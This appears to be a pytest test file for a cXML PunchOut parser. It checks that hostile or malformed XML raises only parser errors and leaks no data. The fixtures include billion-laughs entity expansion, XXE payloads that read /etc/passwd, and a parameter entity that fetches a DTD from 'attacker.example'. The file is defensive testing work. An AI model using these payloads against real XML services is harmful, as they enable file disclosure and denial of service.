# Copyright 2026 amazon_punchout contributors
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""Hostile and malformed input: only CXMLError subclasses, never data leaks."""

import base64

import cxml
import pytest
from conftest import read_own

CART = read_own("amazon_us_cart.xml")

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE cXML [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<cXML payloadID="x" timestamp="2026-01-01T00:00:00Z"><Message><PunchOutOrderMessage>
<BuyerCookie>&lol4;</BuyerCookie></PunchOutOrderMessage></Message></cXML>"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE cXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<cXML payloadID="x" timestamp="2026-01-01T00:00:00Z"><Message><PunchOutOrderMessage>
<BuyerCookie>&xxe;</BuyerCookie></PunchOutOrderMessage></Message></cXML>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE cXML [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>
<cXML payloadID="x" timestamp="2026-01-01T00:00:00Z"/>"""

INTERNAL_SUBSET_NO_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE cXML [<!ELEMENT cXML ANY>]>
<cXML payloadID="x" timestamp="2026-01-01T00:00:00Z"/>"""

EXTERNAL_DTD = CART.replace(
    b'<?xml version="1.0" encoding="UTF-8"?>',
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<!DOCTYPE cXML SYSTEM "file:///etc/passwd">',
)
EXTERNAL_DTD_HTTP = CART.replace(
    b'<?xml version="1.0" encoding="UTF-8"?>',
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<!DOCTYPE cXML SYSTEM "http://127.0.0.1:9/evil.dtd">',
)


def _deep(levels):
    return (
        b'<cXML payloadID="x" timestamp="2026-01-01T00:00:00Z"><Message>'
        + b"<a>" * levels
        + b"</a>" * levels
        + b"</Message></cXML>"
    )


HOSTILE = {
    "billion laughs": BILLION_LAUGHS,
    "XXE file://": XXE_FILE,
    "XXE parameter entity": XXE_PARAMETER,
    "internal subset": INTERNAL_SUBSET_NO_ENTITY,
    "XXE in UTF-16": XXE_FILE.replace(
        b'version="1.0"', b'version="1.0" encoding="UTF-16"'
    )
    .decode()
    .encode("utf-16"),
    "oversize body": b"<cXML>" + b" " * (4 * 1024 * 1024) + b"</cXML>",
    "invalid UTF-8": CART.replace(b"Ballpoint", b"Ball\xff\xfepoint"),
    "wrong root": b'<Invoice payloadID="x" timestamp="2026-01-01T00:00:00Z"/>',
    "lower-case root": CART.replace(b"<cXML ", b"<cxml ").replace(
        b"</cXML>", b"</cxml>"
    ),
    "namespaced root": b'<cXML xmlns="urn:x" payloadID="x" timestamp="t"/>',
    "empty": b"",
    "whitespace": b"  \n\t ",
    "not xml": b"hello world",
    "truncated": CART[: len(CART) // 2],
    "base64 garbage": base64.b64encode(b"\x00\x01garbage" * 10),
    "urlencoded garbage": b"cxml-urlencoded=%3CcXML%3E%3Cbroken",
    "deep nesting": _deep(200),
    "very deep nesting": _deep(100000),
    "no request": b'<cXML payloadID="x" timestamp="2026-01-01T00:00:00Z"/>',
    "empty request": b'<cXML payloadID="x" timestamp="t"><Request/></cXML>',
    "cart without price": CART.replace(
        b'<UnitPrice><Money currency="USD">12.99</Money></UnitPrice>', b""
    ),
    "NaN price": CART.replace(b">12.99<", b">NaN<"),
    "huge exponent": CART.replace(b">12.99<", b">1E999999999<"),
    "bad quantity": CART.replace(b'quantity="2"', b'quantity="two"'),
    "status without code": b'<cXML payloadID="x" timestamp="t"><Response>'
    b'<Status text="x"/></Response></cXML>',
    "undefined entity": CART.replace(b"&amp;", b"&nbsp;"),
    "not bytes": 12345,
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_input_raises_cxml_error_only(name):
    with pytest.raises(cxml.CXMLError) as info:
        cxml.parse(HOSTILE[name])
    error = info.value
    assert isinstance(error, cxml.CXMLParseError)
    assert error.status_code == 400
    assert error.text and len(error.text) < 400
    assert "root:" not in error.text  # nothing from /etc/passwd


def test_oversize_is_size_error_before_parsing():
    with pytest.raises(cxml.CXMLSizeError) as info:
        cxml.parse(b"<" * 101, max_size=100)
    assert "exceeds" in info.value.text
    assert isinstance(info.value, cxml.CXMLError)


def test_depth_bound_is_configurable():
    cxml.parse(_deep(10), max_depth=64)
    with pytest.raises(cxml.CXMLParseError, match="deeper"):
        cxml.parse(_deep(10), max_depth=8)


@pytest.mark.parametrize("data", [EXTERNAL_DTD, EXTERNAL_DTD_HTTP])
def test_external_dtd_is_never_loaded(data):
    doc = cxml.parse(data)
    assert doc.doc_type == "PunchOutOrderMessage"
    assert "DOCTYPE names a non-cXML DTD (not loaded)" in doc.warnings
    assert doc.doctype_system_url.startswith(("file:", "http:"))


def test_lower_case_root_text_names_it():
    with pytest.raises(cxml.CXMLParseError) as info:
        cxml.parse(HOSTILE["lower-case root"])
    assert "<cxml>" in info.value.text and "case-sensitive" in info.value.text


def test_error_texts_are_clear():
    cases = {
        b"": "Empty",
        HOSTILE["not xml"]: "Malformed XML",
        HOSTILE["billion laughs"]: "entities",
        HOSTILE["cart without price"]: "UnitPrice",
        HOSTILE["bad quantity"]: "quantity",
    }
    for data, fragment in cases.items():
        with pytest.raises(cxml.CXMLParseError) as info:
            cxml.parse(data)
        assert fragment in info.value.text


@pytest.mark.parametrize(
    "form,body",
    [
        ({"cXML-base64": "!!!not base64!!!"}, b""),
        ({"cXML-base64": base64.b64encode(b"hello").decode()}, b""),
        ({"cxml-urlencoded": "not xml at all"}, b""),
        ({"cxml-urlencoded": ""}, b""),
        ({"other": "x"}, b""),
        (None, b"cXML-base64=%%%%"),
        (None, b"just some text"),
        (None, b""),
        ({"cXML-base64": 42}, b""),
    ],
)
def test_form_garbage(form, body):
    with pytest.raises(cxml.CXMLParseError) as info:
        cxml.decode_cart_form(form, body)
    assert info.value.status_code == 400


def test_error_classes():
    assert cxml.CXMLParseError().status_code == 400
    assert cxml.CXMLAuthError().status_code == 401
    assert cxml.CXMLSizeError().status_code == 400
    assert cxml.CXMLUnsupportedError().status_code == 501
    error = cxml.CXMLError("text", 409)
    assert (error.status_code, error.text, str(error)) == (409, "text", "text")
    for cls in (cxml.CXMLParseError, cxml.CXMLAuthError, cxml.CXMLUnsupportedError):
        assert issubclass(cls, cxml.CXMLError)


@pytest.mark.parametrize(
    "where",
    [
        b"<BuyerCookie>c&undeclared;</BuyerCookie>",
        b'<Extrinsic name="x">a&undeclared;b</Extrinsic>',
        b"<SupplierPartAuxiliaryID>a&undeclared;</SupplierPartAuxiliaryID>",
    ],
)
def test_undeclared_entity_reference_is_refused_wherever_it_sits(where):
    # with a DOCTYPE naming an external DTD, libxml2 keeps an undeclared
    # reference as a node instead of failing: we refuse it ourselves
    data = (
        b'<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.069/cXML.dtd">'
        b'<cXML payloadID="p" timestamp="2026-01-01T00:00:00Z"><Message>'
        b"<PunchOutOrderMessage>%s</PunchOutOrderMessage></Message></cXML>" % where
    )
    with pytest.raises(cxml.CXMLParseError, match="entity reference"):
        cxml.parse(data)
